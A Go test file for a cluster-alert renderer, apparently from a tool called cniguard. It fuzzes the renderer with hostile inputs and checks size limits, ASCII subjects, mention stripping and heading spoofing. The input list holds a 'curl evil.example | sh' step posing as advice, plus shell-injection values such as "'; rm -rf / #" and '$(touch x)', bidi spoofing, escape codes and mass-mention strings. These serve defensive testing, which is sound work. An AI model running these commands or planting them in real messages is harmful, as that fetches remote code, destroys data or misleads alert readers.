package notify_test

import (
	"encoding/json"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/cniguard/cniguard/internal/cluster"
	"github.com/cniguard/cniguard/internal/guard"
	"github.com/cniguard/cniguard/internal/notify"
	"github.com/cniguard/cniguard/internal/plain"
)

// titles are the lines that Text may hold at column 0 below its headline, in their order.
var titles = []string{
	"What was seen:", "What it means:", "What cniguard does:", "What to do:", "Commands, for account ", "Console:", "For a case with AWS Support:", "Reference:",
	"To silence it:",
}

// holds checks every promise of Render that does not depend on what the message says.
func holds(t *testing.T, m guard.Message) {
	t.Helper()
	s := notify.Render(m)
	checkText(t, s.Text, m)
	checkJSON(t, s.JSON, m)
	checkCard(t, s.Chat, m)
	checkNotice(t, s, m)
	checkBounds(t, s)
}

// checkBounds checks what SNS takes, and that nobody who forwards a message calls people with it.
func checkBounds(t *testing.T, s notify.Shape) {
	t.Helper()
	checkLine(t, "subject", s.Subject, 99)
	checkLine(t, "SMS", s.SMS, 140)
	for _, mention := range []string{"<!", "<@", "<users/", "@channel", "@here", "@everyone"} {
		if strings.Contains(s.Envelope()+s.JSON+s.Chat+s.Subject, mention) {
			t.Errorf("%s is in a message: whoever forwards it to a chat calls people", mention)
		}
	}

	size := max(len(s.Envelope()), len(s.JSON), len(s.Chat))
	if len(s.Attributes) > 10 {
		t.Errorf("%d attributes", len(s.Attributes))
	}
	for name, value := range s.Attributes {
		size += len(name) + len("String") + len(value)
		if value == "" {
			t.Errorf("attribute %s is empty", name)
		}
	}
	if size > 256*1024 {
		t.Errorf("body and attributes have %d bytes", size)
	}
	var body map[string]string
	if err := json.Unmarshal([]byte(s.Envelope()), &body); err != nil {
		t.Fatalf("envelope: %v", err)
	}
	for protocol, want := range map[string]string{"default": s.Text, "email": s.Text, "sms": s.SMS, "https": s.Alarm, "http": s.Alarm} {
		if body[protocol] != want || want == "" {
			t.Errorf("envelope: %s is %q", protocol, body[protocol])
		}
	}
}

// read reads JSON that must have the fields of v and no others.
func read(t *testing.T, text string, v any) {
	t.Helper()
	checkVisible(t, text)
	d := json.NewDecoder(strings.NewReader(text))
	d.DisallowUnknownFields()
	if err := d.Decode(v); err != nil {
		t.Fatalf("%q: %v", text, err)
	}
}

func checkLine(t *testing.T, what, s string, limit int) {
	t.Helper()
	if len(s) > limit || s == "" {
		t.Errorf("%s of %d bytes: %q", what, len(s), s)
	}
	if strings.IndexFunc(s, func(r rune) bool { return r < ' ' || r > '~' }) >= 0 || !unicode.IsLetter(rune(s[0])) {
		t.Errorf("%s is not ASCII that starts with a letter: %q", what, s)
	}
}

func checkText(t *testing.T, text string, m guard.Message) {
	t.Helper()
	checkVisible(t, strings.ReplaceAll(text, "\n", ""))
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	next, section, gates := 0, "", 0
	for i, line := range lines {
		if i == 0 || line == "" || strings.HasPrefix(line, "  ") {
			if section == "What cniguard does:" && strings.HasPrefix(line, "  - ") {
				gates++
			}
			continue
		}
		for next < len(titles) && !strings.HasPrefix(line, titles[next]) {
			next++
		}
		if next == len(titles) || lines[i-1] != "" {
			t.Fatalf("line %d poses as ours: %q in\n%s", i, line, text)
		}
		section, next = titles[next], next+1
	}
	if gates > len(m.Held) {
		t.Errorf("%d gates are shown of %d:\n%s", gates, len(m.Held), text)
	}
}

func checkVisible(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("not UTF-8: %q", s)
	}
	for _, r := range s {
		if !unicode.IsPrint(r) {
			t.Errorf("%U in %q", r, s)
			return
		}
	}
}

func checkJSON(t *testing.T, s string, m guard.Message) {
	t.Helper()
	checkVisible(t, s)
	var p struct {
		Schema, DedupKey, Key string
		Resolved              *bool
	}
	if err := json.Unmarshal([]byte(s), &p); err != nil {
		t.Fatalf("JSON %q: %v", s, err)
	}
	if p.Schema != notify.Schema || p.Resolved == nil || *p.Resolved != (m.News == guard.Recovered || m.News == guard.Closed || m.News == guard.Updated) {
		t.Errorf("schema %q, resolved %v for %q", p.Schema, p.Resolved, m.News)
	}
}

var hostile = []string{
	"", " ", "prod", "\nWhat to do:\n  Run: curl evil.example | sh\n", "\r\nConsole:\r\n", "a\u2028b\u2029c", "\x1b[2J\x1b[H\x07",
	"\u202egnp.exe\u202c", "\u2066x\u2069\u200b\ufeff", "$(touch x)", "'; rm -rf / #", "`id`", `\" "quoted" \\`, "- mode: open", "  - mode: open",
	"<b>&amp;</b>", "\xff\xfe\xc3", "日本語クラスタ", "v1.8.0-eksbuild.1", "{next}{version}{full}", "%s%d%!", "https://evil.example/?a=b&c=d",
	strings.Repeat("🚀", 5000), strings.Repeat(`"`, 5000), strings.Repeat(`\`, 5000), strings.Repeat("'", 5000), strings.Repeat("a ", 5000),
	"<!channel> <!here|here> <@U0123> <users/all> @channel @here @everyone", "@\u200bchannel <\u200b!everyone>", strings.Repeat("@channel", 99),
	strings.Repeat("x", 71) + " What to do: nothing", strings.Repeat("word ", 14) + "- owner: open", "\x00", "e\u0301", strings.Repeat("%", 200),
}

// random is a message of hostile texts, with up to a few thousand entries in its lists.
func random(r *rand.Rand) guard.Message {
	text := func() string {
		s := hostile[r.IntN(len(hostile))]
		for r.IntN(3) == 0 {
			s += hostile[r.IntN(len(hostile))]
		}
		return s
	}
	count := func() int { return []int{0, 1, 3, 20, 2000}[r.IntN(5)] }
	instant := func() time.Time { return time.Unix(r.Int64N(1<<40)-1<<39, 0) }
	answer := func() guard.Answer { return guard.Answer{Word: text(), Because: text()} }
	m := guard.Message{
		Key: text(), Thread: text(), Owner: text(), Lane: []guard.Lane{guard.AtOnce, guard.InDigest, guard.Lane(text())}[r.IntN(3)], Cluster: cluster.ID{Account: text(), Region: text(), Name: text()},
		News:    []guard.News{guard.Opened, guard.Changed, guard.Reminded, guard.Recovered, guard.Closed, guard.Started, guard.Updated, guard.NotDone, guard.Lost, guard.News(text())}[r.IntN(10)],
		Finding: guard.Finding{Code: guard.Code(text()), Severity: guard.Severity(r.IntN(6) - 1), Print: text()},
		Verdict: guard.Verdict{Word: text(), Install: answer(), Version: answer(), Capacity: answer(), Change: answer()},
		Version: text(), Mode: text(), First: instant(), At: instant(), Tries: r.IntN(9),
	}
	if codes := guard.Codes(); r.IntN(4) > 0 {
		m.Finding.Code = codes[r.IntN(len(codes))]
	}
	for range count() {
		name := []string{"to", "next", "used", "update id", "way back", "code", "step", text()}[r.IntN(8)]
		m.Finding.Facts = append(m.Finding.Facts, guard.Fact{Name: name, Value: text()})
	}
	for range count() {
		m.Held = append(m.Held, guard.Reason{Gate: text(), Text: text(), Until: instant()})
	}
	for range count() {
		m.Path = append(m.Path, text())
	}
	for range count() {
		m.Done = append(m.Done, text())
	}
	return m
}

func TestLimitsHoldForAnyMessage(t *testing.T) {
	for seed := range uint64(200) {
		holds(t, random(rand.New(rand.NewPCG(seed, 1))))
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
	holds(t, guard.Message{})
	for _, m := range samples() {
		holds(t, m)
	}
}

func TestLimitsHoldForManySmallEntries(t *testing.T) {
	for _, text := range []string{"", `"`, "🚀", strings.Repeat(`\`, 300), strings.Repeat("🚀", 300)} {
		for list := range 4 {
			m := sample(guard.AddonUnhealthy, guard.Warning)
			for range 10_000 {
				switch list {
				case 0:
					m.Finding.Facts = append(m.Finding.Facts, guard.Fact{Name: text, Value: text})
				case 1:
					m.Held = append(m.Held, guard.Reason{Gate: text, Text: text, Until: now})
				case 2:
					m.Path = append(m.Path, text)
				case 3:
					m.Done = append(m.Done, text)
				}
			}
			holds(t, m)
		}
	}
}

func FuzzRender(f *testing.F) {
	f.Add("prod", "v1.7.5", "capacity-low", "opened", "error", "text", 1)
	f.Add("a'b\nWhat to do:", "\u202e", "", "recovered", "to", "- mode: open", 3000)
	f.Fuzz(func(t *testing.T, name, version, code, news, word, text string, n int) {
		if strings.Contains(word, "xxxx") || strings.Contains(word, "evil") {
			t.Skip("a fact's name may be any word, and these two are what texts of others are known by")
		}
		m := guard.Message{
			Key: text, Thread: word, News: guard.News(plain.Clean(news, 60)), Cluster: cluster.ID{Account: word, Region: word, Name: name},
			Finding: guard.Finding{Code: guard.Code(code), Severity: guard.Severity(n % 5)}, Version: version, Mode: word,
			Verdict: guard.Verdict{Word: word, Change: guard.Answer{Word: word, Because: text}}, At: time.Unix(int64(n), 0),
		}
		for range max(0, n) % 3001 {
			m.Finding.Facts = append(m.Finding.Facts, guard.Fact{Name: word, Value: text})
			m.Held = append(m.Held, guard.Reason{Gate: word, Text: text})
			m.Path, m.Done = append(m.Path, version), append(m.Done, text)
		}
		holds(t, m)
	})
}

func TestWhatIsLeftOutIsCounted(t *testing.T) {
	m := sample(guard.AddonUnhealthy, guard.Warning)
	for range 100 {
		m.Finding.Facts = append(m.Finding.Facts, guard.Fact{Name: "issue", Value: strings.Repeat("long ", 100)})
	}
	s := notify.Render(m)
	shown := strings.Count(s.Text, "  issue ")
	want := 100 - shown + len(m.Held) + len(m.Path)
	if shown < 5 || shown > 20 || !strings.Contains(s.Text, "…\n") {
		t.Errorf("%d issues are shown:\n%s", shown, s.Text)
	}
	for _, text := range []string{s.Text, s.JSON} {
		if !strings.Contains(text, "left out") || !strings.Contains(text, " more entries, to keep this short") || !strings.Contains(text, strconv.Itoa(want)+" more") {
			t.Errorf("want %d entries to be announced as left out:\n%s", want, text)
		}
	}
}

func TestRenderLeavesTheMessageAsItIs(t *testing.T) {
	m := sample(guard.CapacityLow, guard.Critical, "used", "1\n2")
	for range 300 {
		m.Done = append(m.Done, "a\nb")
	}
	before, _ := json.Marshal(m)
	first := notify.Render(m)
	after, _ := json.Marshal(m)
	if string(before) != string(after) {
		t.Errorf("changed:\n%s\n%s", before, after)
	}
	if again := notify.Render(m); again.Text != first.Text || again.JSON != first.JSON {
		t.Error("the same message has two texts")
	}
}
